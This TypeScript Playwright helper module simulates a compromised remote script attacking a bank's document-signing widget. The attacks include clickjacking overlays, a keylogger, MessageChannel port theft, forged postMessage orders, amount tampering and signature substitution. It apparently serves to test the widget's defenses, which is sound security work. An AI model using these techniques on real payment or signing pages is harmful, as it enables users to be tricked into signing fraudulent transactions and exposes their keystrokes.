import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from '@playwright/test';

/**
 * What a compromised remote could do: everything here runs in the shell's own realm, with the shell's own rights. It may
 * touch any element of the page, listen to any event and replace any function of the browser's.
 */

/** Ways to hide from the user what he signs, while his click still reaches the widget. */
export const DISGUISES = {
  'an overlay over the amount': () => {
    const frame = document.querySelector('iframe')?.getBoundingClientRect();
    if (!frame) throw new Error('no widget');
    const cover = document.body.appendChild(document.createElement('div'));
    cover.id = 'attack';
    cover.textContent = '1,00 UAH';
    const place = { left: `${frame.right - 200}px`, top: `${frame.top + 30}px`, width: '190px', height: '40px' };
    const looks = { position: 'fixed', zIndex: '2147483647', background: 'white', pointerEvents: 'none' };
    Object.assign(cover.style, place, looks);
  },
  opacity: () => {
    const dialog = document.querySelector<HTMLElement>('.ant-modal');
    if (dialog) dialog.style.opacity = '0.9';
  },
  'a clip-path that leaves the buttons': () => {
    const frame = document.querySelector('iframe');
    if (frame) frame.style.clipPath = 'inset(60% 0 0 0)';
  },
  'a scale at which nothing can be read': () => {
    const frame = document.querySelector('iframe');
    if (frame) frame.style.transform = 'scale(0.3)';
  },
  'a second dialog in the top layer': () => {
    const dialog = document.body.appendChild(document.createElement('dialog'));
    dialog.id = 'attack';
    dialog.textContent = '1,00 UAH';
    dialog.style.pointerEvents = 'none';
    dialog.showModal();
  },
} as const satisfies Record<string, () => void>;

/** Takes every disguise away again. */
export function undisguise(): void {
  document.getElementById('attack')?.remove();
  const touched = [...document.querySelectorAll<HTMLElement>('iframe, .ant-modal')];
  for (const { style } of touched) for (const name of ['opacity', 'clip-path', 'transform']) style.removeProperty(name);
}

/** Tries every way that a page has into a frame. @returns the ways that succeeded */
export function readFrame(selector: string): string[] {
  const frame = document.querySelector<HTMLIFrameElement>(selector);
  if (!frame) return ['no frame'];
  const view = frame.contentWindow as unknown as Record<string, { body?: { innerText?: string } } | undefined>;
  const ways: Record<string, () => unknown> = {
    contentDocument: () => frame.contentDocument,
    document: () => view['document']?.body?.innerText,
    storage: () => view['localStorage'],
  };
  return Object.entries(ways).flatMap(([way, read]) => {
    try {
      return read() ? [way] : [];
    } catch (error) {
      return error instanceof DOMException && error.name === 'SecurityError' ? [] : [`${way}: ${String(error)}`];
    }
  });
}

declare global {
  interface Window {
    /** What the attacker has collected. */
    loot: string[];
  }
}

/** A frame of the attacker's own, with which he can see whether his ways work. */
export function addOwnFrame(): void {
  const frame = document.body.appendChild(document.createElement('iframe'));
  frame.id = 'own';
  frame.contentDocument?.body.append('own');
}

/** Writes down everything that is typed, pasted or clicked anywhere, before the page itself hears of it. */
export function logKeys(): void {
  window.loot = [];
  for (const kind of [
    'keydown',
    'keypress',
    'keyup',
    'beforeinput',
    'input',
    'paste',
    'change',
    'pointerdown',
    'click',
  ])
    window.addEventListener(
      kind,
      (event) => window.loot.push(`${kind} ${event instanceof KeyboardEvent ? event.key : ''}`),
      true,
    );
}

/** Takes the shell's own port to the widget, from now on, and everything that comes through it. */
export function stealPort(): void {
  window.loot = [];
  const Real = MessageChannel;
  window.MessageChannel = class extends Real {
    constructor() {
      super();
      Object.assign(window, { stolen: this.port1 });
    }
  };
}

/** Says to the widget whatever might make it sign something else, or without asking. */
export function forgeMessages(documentText: string): void {
  const { stolen } = window as unknown as { stolen: MessagePort };
  const element = document.querySelector('iframe');
  const widget = element?.contentWindow;
  if (!widget) throw new Error('no widget');
  const { origin } = new URL(element.src);
  const canonical = new TextEncoder().encode(documentText);
  const { id, version } = JSON.parse(documentText) as { id: string; version: string };
  const frame = { kind: 'sign', language: 'ua', theme: 'light', certificates: [] };
  const request = { ...frame, documents: [{ id, version: Number(version), canonical }] };
  const orders = [request, { kind: 'confirm' }, { kind: 'arm' }, { kind: 'cancelled' }, 'sign', null];
  const own = new MessageChannel();
  own.port1.onmessage = ({ data }: MessageEvent<unknown>) => window.loot.push(JSON.stringify(data));
  widget.postMessage({ kind: 'ncb-widget-connect' }, origin, [own.port2]);
  for (const order of orders) {
    stolen.postMessage(order);
    widget.postMessage(order, origin);
    own.port1.postMessage(order);
  }
}

/** Clicks the widget's button by script, in each way that a script has outside the frame. */
export function clickByScript({ x, y }: { x: number; y: number }): void {
  const frame = document.querySelector('iframe');
  if (!frame) throw new Error('no widget');
  const at = { bubbles: true, composed: true, clientX: x, clientY: y, button: 0 };
  for (const target of [frame, document.elementFromPoint(x, y), document]) {
    if (!target) continue;
    for (const kind of ['pointerdown', 'pointerup'] as const) target.dispatchEvent(new PointerEvent(kind, at));
    for (const kind of ['mousedown', 'mouseup', 'click'] as const) target.dispatchEvent(new MouseEvent(kind, at));
    for (const key of ['Enter', ' ']) target.dispatchEvent(new KeyboardEvent('keydown', { key, bubbles: true }));
  }
  frame.click();
}

/** Lets the widget see another amount than the bank has stored: the user would confirm what is not there. */
export function showOtherAmount(amount: string): void {
  const post = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (
    message: { documents?: { canonical: Uint8Array }[] } | null,
    ...rest: never[]
  ) {
    for (const document of message?.documents ?? []) {
      const text = new TextDecoder().decode(document.canonical);
      document.canonical = new TextEncoder().encode(text.replace(/"amount":"[^"]*"/, `"amount":"${amount}"`));
    }
    Reflect.apply(post, this, [message, ...rest]);
  };
}

/** Hands the signature of one document in as that of another; the shell's own `fetch` is out of a remote's reach. */
export function handInAs(other: { id: string; version: number }): void {
  window.URLSearchParams = class extends URLSearchParams {
    constructor(init?: ConstructorParameters<typeof URLSearchParams>[0]) {
      super(init);
      if (!this.has('cdata')) return;
      const [signature] = JSON.parse(this.get('cdata') ?? '[]') as object[];
      this.set('pmt_ids', JSON.stringify([{ id: other.id, type: 1 }]));
      this.set('cdata', JSON.stringify([{ ...signature, ...other }]));
    }
  };
}

/** Serves a page of a stranger that frames an address. @returns where it is, and what ends it */
export async function strangerFraming(address: string): Promise<{ url: string; close: () => void }> {
  const page = `<!doctype html><title>Stranger</title><iframe src="${address}" width="760" height="500"></iframe>`;
  const server = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html; charset=utf-8').end(page);
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { url: `http://localhost:${port}/`, close: () => server.close() };
}

/** Calls that hand signatures in, from now on. */
export function countHandIns(page: Page): { readonly count: () => number } {
  let calls = 0;
  page.on('request', (request) => {
    if (request.url().endsWith('/sign_doc')) calls++;
  });
  return { count: () => calls };
}
